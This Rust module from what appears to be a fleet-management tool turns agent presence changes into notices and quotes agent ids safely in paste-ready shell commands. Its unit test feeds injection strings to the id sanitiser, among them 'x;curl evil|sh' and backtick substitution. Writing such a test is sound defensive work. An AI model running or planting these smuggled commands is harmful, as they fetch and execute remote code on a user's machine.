//! Agents that went and came back, from the index.

use std::collections::BTreeMap;

use guest_fleet_core::fold::Row;
use guest_fleet_core::notice::{Change, Kind, Told};
use guest_fleet_core::presence::{Beat, OLD_BEAT, Presence};
use guest_fleet_core::time::Seconds;
use guest_fleet_ledger::{Ledger, ReadError, bounds};
use thiserror::Error;

use super::Notice;
use crate::configuration::words;
use crate::fold::reader::{Index, IndexError};
use crate::gateways::ends;

/// Oldest index of which agents are noticed, in seconds: an older one knows nothing of streams that began since.
const OLD: u64 = 60;

/// Why agents were not looked at.
#[derive(Debug, Error)]
pub(super) enum LookError {
    #[error(transparent)]
    Index(#[from] IndexError),
    #[error(transparent)]
    Read(#[from] ReadError),
}

/// An index that is young enough, with the gateways.
pub(super) struct Open<'a> {
    index: Index<'a>,
    as_of: Seconds,
    now: Seconds,
    after: Option<String>,
}

/// The agents of a look.
#[derive(Debug, Default)]
pub(super) struct Found {
    presences: BTreeMap<String, Presence>,
    /// By agent: when it was seen last, and why it is in quarantine.
    facts: BTreeMap<String, (Option<Seconds>, Option<String>)>,
}

/// Opens the index; `None` where it is too old, or no gateway beats.
pub(super) async fn open(ledger: &dyn Ledger, now: Seconds) -> Result<Option<Open<'_>>, LookError> {
    let Some(mut index) = Index::open(ledger).await? else { return Ok(None) };
    let Some(as_of) = index.as_of().filter(|as_of| now.since(*as_of) <= OLD) else {
        return Ok(None);
    };
    let beats = ends::beats(ledger).await?;
    let beats_now = |beat: &Beat| matches!(beat, Beat::Last(at) if now.since(*at) < OLD_BEAT);
    if !beats.values().any(beats_now) {
        return Ok(None);
    }
    index.set_gateways(beats);
    Ok(Some(Open { index, as_of, now, after: None }))
}

// === impl Open ===

impl Open<'_> {
    /// For how long an agent may have no stream, in seconds.
    pub(super) fn offline_after(&self) -> u64 {
        self.index.links().offline_after
    }

    /// How many agents are offline, and in quarantine, as they are counted.
    pub(super) fn counts(&self) -> (u64, u64) {
        let agents = self.index.presences(self.now);
        let count = |presence| agents.get(&presence).copied().unwrap_or(0);
        (count(Presence::Offline), count(Presence::Quarantined))
    }

    /// Looks at the next page of agents; false at the end. Until it is settled who could connect, no agent becomes
    /// offline.
    pub(super) async fn page(
        &mut self,
        (told, is_settled): (&Told, bool),
        found: &mut Found,
    ) -> Result<bool, LookError> {
        let links = self.index.links().clone();
        let (as_of, now) = (self.as_of, self.now);
        let presence = |id: &str, row: &Row| {
            let presence = row.presence(&links, now)?;
            // The agent may have a stream that the index does not know of yet.
            let is_new = presence == Presence::Offline && !told.offline.agents.contains(id);
            let is_known = is_settled && row.presence(&links, as_of) == Some(Presence::Offline);
            Some(if is_new && !is_known { Presence::Disconnected } else { presence })
        };
        let page = self.index.page(self.after.as_deref(), bounds::PAGE, |id, row| {
            let is_news =
                matches!(presence(id, row), Some(Presence::Offline | Presence::Quarantined));
            is_news || told.names(id)
        });
        let page = page.await?;
        for (id, row) in page.rows {
            let Some(presence) = presence(&id, &row) else { continue };
            let quarantine = row.agent.as_ref().and_then(|agent| agent.quarantine.clone());
            found.facts.insert(id.clone(), (row.link(&links, now).seen(), quarantine));
            found.presences.insert(id, presence);
        }
        self.after = page.next;
        Ok(self.after.is_some())
    }
}

// === impl Found ===

impl Found {
    /// The notices of the changes since the last look, and the agents that are noticed after it; with the number of
    /// this look and its time.
    pub(super) fn notices(&self, told: &Told, look: (u64, Seconds)) -> (Vec<Notice>, Told) {
        let mut after = told.clone();
        let changes = after.step(&self.presences);
        (changes.iter().map(|change| self.notice(change, look)).collect(), after)
    }

    fn notice(&self, change: &Change, (look, now): (u64, Seconds)) -> Notice {
        // Where a ledger went back, numbers come again.
        let id = format!("{}-{look}-{}", change.kind.name(), now.0);
        if let ([agent], 1) = (change.agents.as_slice(), change.count) {
            let (text, fix) = self.one(change.kind, agent);
            return Notice::of_agent(agent, &id, change.kind, text, fix);
        }
        let (text, fix) = many(change);
        let mut notice = Notice::of_fleet("", &id, change.kind, text, fix);
        (notice.part.agents, notice.part.count) = (change.agents.clone(), change.count);
        notice
    }

    fn one(&self, kind: Kind, agent: &str) -> (String, String) {
        let (seen, quarantine) = self.facts.get(agent).cloned().unwrap_or_default();
        let since = seen.map_or_else(String::new, |seen| format!(" since {}", words::time(seen)));
        let id = shown(agent);
        match kind {
            Kind::AgentOffline => (
                format!("the agent has had no stream{since}; its plugins run on"),
                format!("`guest-fleet agent {id}` shows when it was seen and by which gateway"),
            ),
            Kind::AgentArchived => ("the agent is counted no longer".to_owned(), String::new()),
            Kind::AgentQuarantined => (
                format!(
                    "the agent gets no orders: {}",
                    quarantine.as_deref().unwrap_or("two machines use its identity")
                ),
                format!("`guest-fleet agent release {id}`, once a single machine has its identity"),
            ),
            Kind::AgentReleased => ("the agent left its quarantine".to_owned(), String::new()),
            _ => ("the agent has a stream again".to_owned(), String::new()),
        }
    }
}

/// The id of an agent as a word of a command that people paste; `ID` where a shell would read it otherwise.
fn shown(agent: &str) -> &str {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._:/@".contains(&byte);
    if agent.bytes().all(is_plain) && !agent.starts_with('-') { agent } else { "ID" }
}

fn many(change: &Change) -> (String, String) {
    let count = change.count;
    let text = match change.kind {
        Kind::AgentOffline => {
            format!("{count} agents have no stream any more; their plugins run on")
        }
        Kind::AgentArchived => format!("{count} agents are counted no longer"),
        Kind::AgentQuarantined => {
            format!("{count} agents get no orders: two machines use the identity of each")
        }
        Kind::AgentReleased => format!("{count} agents left their quarantine"),
        // They were too many to be known by name.
        _ if change.agents.is_empty() => {
            format!(
                "{count} agents are offline no longer: they have a stream, or are counted no longer"
            )
        }
        _ => format!("{count} agents have a stream again"),
    };
    let fix = match change.kind {
        Kind::AgentOffline => "`guest-fleet agents --offline` lists them",
        Kind::AgentQuarantined => {
            "`guest-fleet status` counts them, `guest-fleet agents` names them"
        }
        _ => "",
    };
    (text, fix.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_names_no_agent_that_a_shell_would_read_otherwise() {
        assert_eq!(shown("zone/a:web-01.example"), "zone/a:web-01.example");
        for id in ["x;curl evil|sh", "`id`", "-rf", "a b", "~root", "$HOME", "ä"] {
            assert_eq!(shown(id), "ID", "{id}");
        }
    }
}
